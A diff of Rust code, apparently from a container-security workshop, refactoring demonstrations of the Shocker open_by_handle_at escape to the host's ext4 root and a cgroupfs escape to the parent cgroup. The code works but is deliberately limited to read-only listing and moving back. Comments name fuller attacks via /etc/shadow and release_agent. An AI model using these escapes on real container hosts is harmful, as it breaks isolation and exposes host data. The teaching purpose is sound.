@@ -237,14 +237,57 @@ const EXT_ROOT_INODE: u32 = 2;
 /// real attacker walks on from there to /etc/shadow, or writes. Here: list
 /// a few names of that directory, read only, and close it.
 fn shocker() -> Result<String, Refusal> {
-    // The handle of our own / tells its format (and the kernel lets anyone ask).
+    let (handle, how) = match handle_of_the_filesystems_root() {
+        RootHandle::Ext4(handle, how) => (handle, how),
+        RootHandle::Unknown(own) => return shocker_unknown_fs(&own),
+    };
+    // Any descriptor on that filesystem: the kernel decodes the handle there.
+    let anchor = open_dir("/")?;
+    let dir = open_by_handle(&anchor, &handle, "open_by_handle_at(inode 2)")?;
+    // The descriptor's magic link leads to the directory itself, wherever it is.
+    let theirs = names_in(Path::new(&format!("/proc/self/fd/{}", dir.as_raw_fd())));
+    let ours = names_in(Path::new("/"));
+    let outside: Vec<&str> = theirs
+        .iter()
+        .filter(|n| !ours.contains(n))
+        .take(5)
+        .map(String::as_str)
+        .collect();
+    if outside.is_empty() {
+        // The privilege is there, but the container's / is that whole
+        // filesystem: nothing of the host's on it to reach.
+        return Ok(format!(
+            "opened inode 2 by handle ({how}), but it is the container's own / (it has no name that / lacks)"
+        ));
+    }
+    Ok(format!(
+        "opened inode 2, the root of the filesystem under / ({how}), outside the container, and listed: {}",
+        outside.join(" ")
+    ))
+}
+// ANCHOR_END: shocker
+
+/// What [`shocker`] opens: the ext4 handle of inode 2 (and how it knows the
+/// filesystem is ext4), or, on a filesystem it cannot address, the handle
+/// of its own / as the kernel gave it.
+enum RootHandle {
+    Ext4(FileHandle, String),
+    Unknown(FileHandle),
+}
+
+/// Ask the kernel for the handle of our own / (anyone may ask): its type
+/// tells the format. A filesystem that cannot say (an overlay without
+/// nfs_export, EOPNOTSUPP) gets the ext4 handle anyway: the real exploit
+/// never asked, it wrote that handle by hand.
+fn handle_of_the_filesystems_root() -> RootHandle {
     let mut own = FileHandle {
         handle_bytes: 128,
         handle_type: 0,
         f_handle: [0; 128],
     };
     let mut mount_id: i32 = 0;
-    // SAFETY: `own` is a file_handle with handle_bytes of room after its header.
+    // SAFETY: `own` is a file_handle with handle_bytes of room after its
+    // header, and mount_id an int: all the kernel writes.
     let asked = Errno::result(unsafe {
         nix::libc::syscall(
             nix::libc::SYS_name_to_handle_at,
@@ -255,54 +298,24 @@ fn shocker() -> Result<String, Refusal> {
             0,
         )
     });
+    // One magic for ext2, ext3 and ext4.
     let ext = nix::sys::statfs::statfs("/")
-        .map(|s| s.filesystem_type() == nix::sys::statfs::EXT4_SUPER_MAGIC) // ext2 and ext3 too: one magic
-        .unwrap_or(false);
-    // ext4, or a filesystem that cannot say (an overlay without nfs_export):
-    // the real exploit never asked, it wrote the ext4 handle of inode 2.
-    let root_handle = match asked {
-        Ok(_) if own.handle_type != FILEID_INO32_GEN || !ext => {
-            return shocker_unknown_fs(&mut own);
-        }
-        _ => ext_root_handle(),
-    };
-    let how = match asked {
-        Ok(_) => "ext4, as name_to_handle_at(\"/\") showed".to_string(),
-        Err(e) => format!(
-            "name_to_handle_at(\"/\") got {}: the ext4 handle, written by hand",
-            errno_name(e)
+        .is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::EXT4_SUPER_MAGIC);
+    match asked {
+        Ok(_) if own.handle_type == FILEID_INO32_GEN && ext => RootHandle::Ext4(
+            ext_root_handle(),
+            "ext4, as name_to_handle_at(\"/\") showed".into(),
         ),
-    };
-    let anchor = called(
-        nix::fcntl::open(
-            "/",
-            nix::fcntl::OFlag::O_RDONLY | nix::fcntl::OFlag::O_DIRECTORY,
-            nix::sys::stat::Mode::empty(),
-        ),
-        "open(\"/\")",
-    )?;
-    let dir = open_by_handle(&anchor, &root_handle, "open_by_handle_at(inode 2)")?;
-    let ours: Vec<String> = names_in(Path::new("/"));
-    let theirs = names_in(&PathBuf::from(format!("/proc/self/fd/{}", dir.as_raw_fd())));
-    let outside: Vec<&String> = theirs
-        .iter()
-        .filter(|n| !ours.contains(n))
-        .take(5)
-        .collect();
-    if outside.is_empty() {
-        return Err(Refusal {
-            errno: Errno::ENOENT,
-            call: format!(
-                "open_by_handle_at(inode 2) opened a directory ({how}) with no name the container's / lacks: its / is that filesystem's root"
+        Ok(_) => RootHandle::Unknown(own),
+        Err(e) => RootHandle::Ext4(
+            ext_root_handle(),
+            format!(
+                "name_to_handle_at(\"/\") got {}: the ext4 handle, written by hand",
+                errno_name(e)
             ),
-        });
+        ),
     }
-    Ok(format!(
-        "opened inode 2, the root of the filesystem under / ({how}), outside the container, and listed: {}",
-        outside.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(" ")
-    ))
 }
-// ANCHOR_END: shocker
 
 fn ext_root_handle() -> FileHandle {
     let mut handle = FileHandle {
@@ -314,16 +327,28 @@ fn ext_root_handle() -> FileHandle {
     handle // generation 0: the next four bytes
 }
 
+fn open_dir(path: &str) -> Result<OwnedFd, Refusal> {
+    use nix::fcntl::OFlag;
+    called(
+        nix::fcntl::open(
+            path,
+            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
+            nix::sys::stat::Mode::empty(),
+        ),
+        format!("open({path:?})"),
+    )
+}
+
 /// open_by_handle_at(anchor, handle, O_RDONLY | O_DIRECTORY).
 fn open_by_handle(anchor: &OwnedFd, handle: &FileHandle, call: &str) -> Result<OwnedFd, Refusal> {
-    // SAFETY: `handle` is a valid file_handle; the fd returned is new and ours.
+    // SAFETY: `handle` is a valid file_handle the kernel only reads.
     let fd = called(
         Errno::result(unsafe {
             nix::libc::syscall(
                 nix::libc::SYS_open_by_handle_at,
                 anchor.as_raw_fd(),
                 handle as *const FileHandle,
-                nix::libc::O_RDONLY | nix::libc::O_DIRECTORY,
+                nix::libc::O_RDONLY | nix::libc::O_DIRECTORY | nix::libc::O_CLOEXEC,
             )
         }),
         call,
@@ -334,19 +359,12 @@ fn open_by_handle(anchor: &OwnedFd, handle: &FileHandle, call: &str) -> Result<O
 
 /// A filesystem whose root this tool cannot name (not ext2/3/4): open our
 /// own / by its handle, which takes the same privilege, and say so.
-fn shocker_unknown_fs(own: &mut FileHandle) -> Result<String, Refusal> {
-    let anchor = called(
-        nix::fcntl::open(
-            "/",
-            nix::fcntl::OFlag::O_RDONLY | nix::fcntl::OFlag::O_DIRECTORY,
-            nix::sys::stat::Mode::empty(),
-        ),
-        "open(\"/\")",
-    )?;
-    let kind = own.handle_type;
+fn shocker_unknown_fs(own: &FileHandle) -> Result<String, Refusal> {
+    let anchor = open_dir("/")?;
     open_by_handle(&anchor, own, "open_by_handle_at(the handle of /)")?;
     Ok(format!(
-        "opened / by its file handle (type {kind:#x}): the privilege is there, but this filesystem's root inode is not one this tool knows how to name"
+        "opened / by its file handle (type {:#x}): the privilege is there, but this filesystem's root inode is not one this tool knows how to name",
+        own.handle_type
     ))
 }
 
@@ -370,10 +388,11 @@ fn names_in(dir: &Path) -> Vec<String> {
 /// root cgroup and raise the limits of anything, or use v1's
 /// release_agent to run a program as the host's root. Here the parent is
 /// the cgroup the tool that started the container lives in (the house
-/// rule: never to the root cgroup, never out of the tool's), and the
-/// mount goes again at once. (On cgroup v2, chapter 7's containers live in
-/// `/workshop/PID`, and `/workshop` enables controllers for its children,
-/// so v2's "no internal processes" rule refuses the move: EBUSY.)
+/// rule: never to the root cgroup, never out of the tool's); the process
+/// moves back once it has seen where it is, and the mount goes at once.
+/// (On cgroup v2, chapter 7's containers live in `/workshop/PID`, and
+/// `/workshop` enables controllers for its children, so v2's "no internal
+/// processes" rule refuses the move: EBUSY.)
 fn cgroup_escape() -> Result<String, Refusal> {
     let text = io_called(
         std::fs::read_to_string("/proc/self/cgroup"),
@@ -449,13 +468,27 @@ fn move_to_parent(mounted: &Path, before: &str) -> Result<String, Refusal> {
         std::fs::write(&procs, "0"),
         format!("write 0 to cgroup.procs of {parent}"),
     )?;
-    let after = std::fs::read_to_string("/proc/self/cgroup")
+    let after = cgroup_now();
+    // Seen: back under the limit (moving in is never refused for a limit).
+    let back = mounted
+        .join(before.trim_start_matches('/'))
+        .join("cgroup.procs");
+    let returned = match std::fs::write(&back, "0") {
+        Ok(()) if cgroup_now() == before => "and back, once seen".to_string(),
+        Ok(()) => format!("moved back, but is in {}", cgroup_now()),
+        Err(e) => format!("could not move back: {e}"),
+    };
+    Ok(format!(
+        "mounted cgroupfs and moved out of the container's cgroup: from {before} to {after} ({returned})"
+    ))
+}
+
+/// This process's cgroup, as /proc/self/cgroup says now.
+fn cgroup_now() -> String {
+    std::fs::read_to_string("/proc/self/cgroup")
         .ok()
         .and_then(|t| own_cgroup(&t).map(|(_, _, p)| p))
-        .unwrap_or_default();
-    Ok(format!(
-        "mounted cgroupfs and moved out of the container's cgroup: from {before} to {after}"
-    ))
+        .unwrap_or_default()
 }
 
 // ANCHOR: sysctl_write
